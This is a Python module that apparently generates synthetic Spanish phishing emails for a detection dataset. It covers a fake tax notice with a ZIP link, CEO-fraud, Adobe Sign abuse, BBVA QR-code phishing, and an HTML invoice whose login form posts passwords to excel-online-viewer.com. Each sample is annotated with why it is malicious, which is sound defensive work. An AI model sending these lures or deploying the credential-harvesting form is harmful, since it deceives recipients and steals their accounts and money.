"""attack/ 27-31 (Spanish)."""
from .common import *  # noqa: F401,F403
from .. import platforms as P, transport2 as T2


def a27():
    m = Msg("attack", 27, "es", "aeat-notificacion-requerimiento-zip", utc(2026, 11, 10, 9, 2, 51))
    k = T.PostfixOrg(m, "reformashnosgil.es", "smtp-out2.serviciodecorreo.es", "217.76.128.62", client="outlook16",
                     dkim_sel="arsys2024", lang="es")
    javier = S("javier")
    url = "https://reformashnosgil.es/wp-includes/notif/AEAT_Requerimiento_2026GRC4817300K.zip"
    plain = p(
        "Agencia Tributaria",
        "Sede Electrónica",
        "",
        "Estimado/a contribuyente:",
        "",
        "Le comunicamos que tiene a su disposición una notificación electrónica correspondiente al procedimiento de comprobación limitada del Impuesto sobre el Valor Añadido, ejercicio 2025, de la entidad EXAMPLE GROUP IBERIA SL (NIF B50461987).",
        "",
        "Referencia del expediente: 2026GRC4817300K",
        "Tipo de acto: Requerimiento de información",
        "",
        "Dispone de un plazo de 10 días hábiles para atender el requerimiento. Puede descargar el documento y la relación de justificantes solicitados desde el siguiente enlace:",
        url,
        "",
        "Transcurrido el plazo sin que se haya accedido al contenido, la notificación se entenderá practicada a todos los efectos (art. 43.2 de la Ley 39/2015).",
        "",
        "Agencia Estatal de Administración Tributaria",
        "Delegación Especial de Aragón")
    m.root = ol_alt(m, plain, cs="iso-8859-1", lang="ES")
    for c in m.root.children:
        c.style = "default"
    f = Fields(("Agencia Tributaria", "info@reformashnosgil.es"), [javier],
               "Notificación electrónica: Requerimiento de información - Expte. 2026GRC4817300K", hcs="iso-8859-1", henc="Q")
    k.finish(f, submit=("[192.168.1.34]", "88.24.117.203"), dmarc=("none", None))
    m.fact("URL", url, "ZIP on a compromised WordPress site (in the real campaign a VBS/JS loader)")
    m.info = dict(
        what="'Agencia Tributaria' announces an electronic notification (information request, VAT 2025) and offers the documents as a ZIP download.",
        why="Malware lure: the Spanish tax agency notifies only through its Sede / DEHú and never sends ZIP downloads; sender is a compromised building-company mailbox at Arsys (display-name spoofing), link into wp-includes of its WordPress site. Compare the genuine DEHú notice in business/27.")
    return m


def a28():
    m = Msg("attack", 28, "es", "ceo-whatsapp-operacion-confidencial", utc(2026, 11, 17, 8, 51, 12))
    k = T.M365(m, "outlook.com", "PAXP193MB1862", "AS8P193MB2214", "eurp193",
               ("EUR03-DBA-obe.outbound.protection.outlook.com", "mail-dbaeur03olkn2054.outbound.protection.outlook.com", "40.92.59.54"),
               "84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa", lang="es-ES")
    javier = S("javier")
    plain = p(
        "Hola Javier,",
        "",
        "¿Estás en la oficina? Necesito que me ayudes hoy con un tema confidencial relacionado con una operación que estamos cerrando en España.",
        "",
        "¿Me puedes enviar tu número de móvil? Te escribo por WhatsApp, ahora mismo estoy en una reunión y no puedo llamar. De momento no lo comentes con nadie, ni siquiera con Lucía, te lo explico todo por allí.",
        "",
        "Gracias,",
        "Matthias Krämer",
        "CEO – Example Group",
        "",
        "Enviado desde Outlook para Android")
    m.root = ol_alt(m, plain, lang="ES", font="Aptos")
    f = Fields(("Matthias Krämer", "matthias.kraemer.ceo@outlook.com"), [javier], "Tema confidencial", hcs="utf-8", henc="B")
    k.finish(f, dmarc=("pass", "none"))
    m.info = dict(
        what="'CEO' writes to the Spanish accountant from an Outlook.com address: confidential deal, send your mobile number, continue on WhatsApp, tell nobody.",
        why="Business e-mail compromise first contact: CEO name on a consumer Outlook.com account (genuine Microsoft headers, so SPF/DKIM/DMARC pass for outlook.com), secrecy, switch to WhatsApp to escape corporate controls; no link or payload yet.")
    return m


def a29():
    m = Msg("attack", 29, "es", "adobe-sign-modelo-200-abusado", utc(2026, 11, 25, 15, 7, 22))
    m.sent = m.t - secs(3)
    k = P.SES(m, "eu-west-1")
    javier = S("javier")
    wid = "CBFCIBAA3AAABLblqZhAOx" + m.rng.alnum(40)
    url = "https://secure.eu1.adobesign.com/public/esignWidget?wid=" + wid + "*"
    help_ = "https://helpx.adobe.com/es/sign/using/sign-agreement-as-recipient.html"
    report = "https://secure.eu1.adobesign.com/public/reportAbuse?aid=" + m.rng.alnum(24)
    plain = p(
        "Gestoría Ortega Asesores le ha solicitado que revise y firme Modelo 200 - Impuesto sobre Sociedades 2025 - Example Group Iberia SL",
        "",
        "Revisar y firmar: " + url,
        "",
        "Mensaje de Gestoría Ortega Asesores:",
        "Buenas tardes, le adjuntamos el borrador del Modelo 200 del ejercicio 2025 para su revisión. Por favor, acceda al documento y confirme con su cuenta de empresa antes del viernes para presentarlo en plazo.",
        "",
        "Después de firmar, todas las partes recibirán una copia del acuerdo firmado.",
        "",
        "No reenvíe este correo electrónico: si alguien lo reenvía, podrá firmar en su nombre.",
        "Informar de abuso: " + report,
        "¿Necesita ayuda? " + help_,
        "",
        "Para garantizar que sigue recibiendo nuestros correos electrónicos, añada adobesign@adobesign.com a su libreta de direcciones.",
        "© 2026 Adobe. All rights reserved.")
    html = ('<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f5f5f5;font-family:adobe-clean,Helvetica,Arial,sans-serif">'
            '<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:30px 10px"><table width="600" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:6px">'
            '<tr><td style="padding:26px 40px 10px 40px;font-size:13px;color:#eb1000;font-weight:bold">Adobe Acrobat Sign</td></tr>'
            '<tr><td style="padding:6px 40px 20px 40px;font-size:22px;color:#2c2c2c">Gestoría Ortega Asesores le ha solicitado que revise y firme <b>Modelo 200 - Impuesto sobre Sociedades 2025 - Example Group Iberia SL</b></td></tr>'
            '<tr><td style="padding:0 40px 26px 40px"><a href="' + url + '" style="background:#1473e6;color:#fff;padding:10px 26px;border-radius:16px;text-decoration:none;font-weight:bold;font-size:15px">Revisar y firmar</a></td></tr>'
            '<tr><td style="padding:0 40px 20px 40px;font-size:14px;color:#4b4b4b;line-height:21px"><b>Mensaje de Gestoría Ortega Asesores:</b><br>Buenas tardes, le adjuntamos el borrador del Modelo 200 del ejercicio 2025 para su revisión. Por favor, acceda al documento y confirme con su cuenta de empresa antes del viernes para presentarlo en plazo.<br><br>'
            'Después de firmar, todas las partes recibirán una copia del acuerdo firmado.</td></tr>'
            '<tr><td style="padding:18px 40px;font-size:12px;color:#6e6e6e;border-top:1px solid #eaeaea">No reenvíe este correo electrónico: si alguien lo reenvía, podrá firmar en su nombre. <a href="' + report + '">Informar de abuso</a> &middot; <a href="' + help_ + '">¿Necesita ayuda?</a><br><br>'
            'Para garantizar que sigue recibiendo nuestros correos electrónicos, añada adobesign@adobesign.com a su libreta de direcciones.<br>&copy; 2026 Adobe. All rights reserved.</td></tr></table></td></tr></table></body></html>\r\n')
    m.root = mime.multi("alternative", [mime.text(plain, "UTF-8", "quoted-printable"), mime.text(html, "UTF-8", "quoted-printable", "html")], m.bnd())
    f = Fields(("Gestoría Ortega Asesores via Adobe Acrobat Sign", "adobesign@adobesign.com"), [javier],
               "Firme: Modelo 200 - Impuesto sobre Sociedades 2025 - Example Group Iberia SL",
               reply_to=[("Gestoría Ortega Asesores", "gestoria.ortega.asesores@gmail.com")])
    k.finish(f, "adobesign.com", "s2", env_domain="bounce.adobesign.com", dmarc=("pass", "reject"))
    m.fact("URL", url, "genuine Adobe Acrobat Sign agreement created by the attacker; the 'document' shows a button to a Microsoft 365 phishing page")
    m.fact("URL", help_, "Adobe help")
    m.fact("URL", report, "Adobe report-abuse link")
    m.info = dict(
        what="Adobe Acrobat Sign request from 'Gestoría Ortega Asesores' to review and sign the 2025 corporate-tax return draft; 'confirm with your company account'.",
        why="Abuse of a real e-signature platform: the notification is genuinely from adobesign.com (all checks pass, link on adobesign.com), but the sender account was created by the attacker with the adviser's name; Reply-To is a Gmail address; the agreement page leads on to credential phishing. The adviser's real request (business/29) comes from her own account with reply-to gestoriaortega.es.")
    return m


def a30():
    m = Msg("attack", 30, "es", "bbva-netcash-firma-qr", utc(2026, 12, 3, 7, 48, 30))
    k = P.Mailgun(m, "mg.bbva-netcash-empresas.com")
    javier = S("javier")
    url = "https://firma.bbva-netcash-empresas.com/autorizar?op=TRF-2026-118842&emp=B50461987"
    cid = "qr_firma_" + m.rng.hex(8)
    plain = p(
        "BBVA Net cash",
        "",
        "Operación pendiente de firma",
        "",
        "Estimado cliente:",
        "",
        "En su servicio BBVA Net cash de EXAMPLE GROUP IBERIA SL hay 1 operación pendiente de firma:",
        "",
        "Transferencia SEPA - Importe: 24.380,00 EUR",
        "Beneficiario: TRANSPORTES LOGISTICA ARAGON SL",
        "Fecha de ejecución solicitada: 03/12/2026",
        "",
        "Por su seguridad, desde el 1 de diciembre la firma y el rechazo de operaciones se realizan escaneando el código QR con la app BBVA Empresas. Si no reconoce esta operación, escanee el código y pulse \"Rechazar\" antes de las 12:00 h.",
        "",
        "Atentamente,",
        "BBVA Net cash - Banca de Empresas",
        "",
        "Banco Bilbao Vizcaya Argentaria, S.A. - Plaza de San Nicolás, 4 - 48005 Bilbao")
    html = ('<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f4f4f4;font-family:Arial,sans-serif">'
            '<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px"><table width="600" cellpadding="0" cellspacing="0" style="background:#fff">'
            '<tr><td style="background:#072146;color:#fff;padding:18px 28px;font-size:22px;font-weight:bold">BBVA <span style="font-weight:normal;font-size:16px">Net cash</span></td></tr>'
            '<tr><td style="padding:22px 28px 6px 28px;font-size:19px;color:#072146;font-weight:bold">Operación pendiente de firma</td></tr>'
            '<tr><td style="padding:8px 28px;font-size:14px;color:#333;line-height:21px">Estimado cliente:<br><br>En su servicio BBVA Net cash de <b>EXAMPLE GROUP IBERIA SL</b> hay 1 operación pendiente de firma:</td></tr>'
            '<tr><td style="padding:8px 28px"><table cellpadding="6" style="font-size:14px;background:#f4f7fb;width:100%"><tr><td>Transferencia SEPA</td><td align="right"><b>24.380,00 EUR</b></td></tr>'
            '<tr><td>Beneficiario</td><td align="right">TRANSPORTES LOGISTICA ARAGON SL</td></tr><tr><td>Fecha de ejecución</td><td align="right">03/12/2026</td></tr></table></td></tr>'
            '<tr><td style="padding:16px 28px;font-size:14px;color:#333;line-height:21px">Por su seguridad, desde el 1 de diciembre la firma y el rechazo de operaciones se realizan escaneando el código QR con la app <b>BBVA Empresas</b>. '
            'Si no reconoce esta operación, escanee el código y pulse &quot;Rechazar&quot; antes de las 12:00 h.</td></tr>'
            '<tr><td align="center" style="padding:6px 28px 20px 28px"><img src="cid:' + cid + '" width="180" height="180" alt="Código QR de firma"></td></tr>'
            '<tr><td style="padding:14px 28px;font-size:11px;color:#888;border-top:1px solid #eee">Atentamente, BBVA Net cash - Banca de Empresas<br>Banco Bilbao Vizcaya Argentaria, S.A. - Plaza de San Nicolás, 4 - 48005 Bilbao</td></tr>'
            '</table></td></tr></table></body></html>\r\n')
    alt = mime.multi("alternative", [mime.text(plain, "utf-8", "quoted-printable"), mime.text(html, "utf-8", "quoted-printable", "html")], m.bnd())
    img = att.qr_png_part(m, url, "qr_firma.png", inline=True, cid=cid, scale=5)
    m.root = mime.multi("related", [alt, img], m.bnd())
    f = Fields(("BBVA Net cash", "avisos@bbva-netcash-empresas.com"), [javier], "Operación pendiente de firma - Transferencia 24.380,00 EUR")
    k.finish(f, dmarc=("pass", "none"), from_domain="bbva-netcash-empresas.com")
    m.fact("URL", url, "QR code only (inline PNG): phishing page for BBVA business-banking credentials")
    m.info = dict(
        what="'BBVA Net cash' reports a 24,380 EUR transfer awaiting signature; to sign or reject, scan the QR code with the BBVA Empresas app before noon.",
        why="Quishing against business banking: the only link is inside an inline QR image (moves the victim to a phone), urgency with an alarming unknown payment; sent via Mailgun from the look-alike bbva-netcash-empresas.com. The company's bank in Spain is CaixaBank anyway.")
    return m


def a31():
    m = Msg("attack", 31, "es", "factura-html-excel-online", utc(2026, 12, 11, 10, 33, 5))
    k = T.Gmail(m, "transportesebro.es", workspace=True)
    lucia = S("lucia")
    action = "https://excel-online-viewer.com/auth/ms.php"
    plain = p(
        "Buenos días Lucía,",
        "",
        "Le adjunto la factura F-2026/1183 correspondiente a los servicios de transporte de noviembre (recogidas Zaragoza – Huesca). Por favor confirme la recepción y la fecha prevista de pago.",
        "",
        "Un saludo,",
        "",
        "Marta Gil",
        "Administración",
        "Transportes Ebro Logística SL",
        "Pol. Ind. Malpica, Calle E, Parcela 12 - 50016 Zaragoza",
        "Tel. 976 57 31 40")
    htmlatt = ('<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>Factura_F-2026-1183.xlsx - Excel</title>'
               '<style>body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#e8e8e8}.bar{background:#217346;color:#fff;padding:10px 16px;font-size:15px}'
               '.sheet{filter:blur(3px);background:#fff;margin:20px auto;width:900px;height:520px;border:1px solid #ccc}'
               '.modal{position:absolute;top:150px;left:50%;margin-left:-200px;width:400px;background:#fff;padding:30px;box-shadow:0 4px 16px rgba(0,0,0,.35)}'
               'input{width:100%;padding:8px;margin:8px 0;border:1px solid #999}button{background:#217346;color:#fff;border:0;padding:9px 20px}</style></head>\r\n'
               '<body><div class="bar">Excel &middot; Factura_F-2026-1183.xlsx</div><div class="sheet"><table border="1" cellpadding="6" style="margin:30px;font-size:13px">'
               '<tr><td>Concepto</td><td>Importe</td></tr><tr><td>Servicios de transporte noviembre 2026</td><td>6.842,00</td></tr><tr><td>IVA 21 %</td><td>1.436,82</td></tr><tr><td>Total</td><td>8.278,82</td></tr></table></div>\r\n'
               '<div class="modal"><b>Este documento está protegido</b><p style="font-size:13px">Para ver la factura, verifique su cuenta de correo electrónico corporativo.</p>'
               '<form method="post" action="' + action + '"><input type="email" name="u" value="lucia.fernandez@example.com"><input type="password" name="p" placeholder="Contraseña">'
               '<button type="submit">Ver documento</button></form></div>\r\n'
               '<!-- inert test sample: the live campaign base64-decodes and runs JavaScript here; removed -->\r\n</body></html>\r\n')
    a = att.generic(m, htmlatt.encode("utf-8"), "text/html", "Factura_F-2026-1183.html", record_text=htmlatt)
    m.root = mime.multi("mixed", [gm_alt(m, plain), a], m.bnd("mixed"))
    f = Fields(("Marta Gil", "administracion@transportesebro.es"), [lucia], "Factura F-2026/1183 - Transportes Ebro Logística")
    k.finish(f, zone="CET")
    m.fact("URL", action, "credential-harvesting form target in the HTML attachment")
    m.fact("Phone", "976 57 31 40", "signature of the compromised sender")
    m.info = dict(
        what="Invoice F-2026/1183 for November transport services from a local haulier; attached 'invoice' is an HTML file.",
        why="HTML attachment lure from a compromised Google Workspace mailbox of a real-looking local carrier (DKIM/DMARC pass): the attachment imitates a blurred Excel Online sheet with a 'protected document' login box that posts the password to excel-online-viewer.com. Example Group Iberia has no account with this carrier.")
    return m


MESSAGES = [a27, a28, a29, a30, a31]
